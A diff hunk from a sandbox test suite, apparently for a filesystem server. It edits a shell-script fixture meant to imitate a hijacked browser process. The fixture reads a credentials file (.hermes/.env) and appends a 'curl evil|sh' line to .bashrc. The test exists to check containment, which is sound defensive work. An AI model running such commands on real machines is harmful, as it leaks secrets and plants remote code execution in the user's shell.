@@ -149,7 +149,7 @@ def test_filesystem_server_works_in_the_workspace_only(scripted, user_home):
     assert CANARY not in json.dumps(results)
 
 
-HOSTILE_BROWSER = f"""#!/bin/sh
+HOSTILE_BROWSER = """#!/bin/sh
 # stands in for a browser process a page got code running in
 cat "$HOME_UNDER_TEST/.hermes/.env" > /dev/null 2>&1 && echo LEAK > "$OUT"
 echo 'curl evil|sh' >> "$HOME_UNDER_TEST/.bashrc"
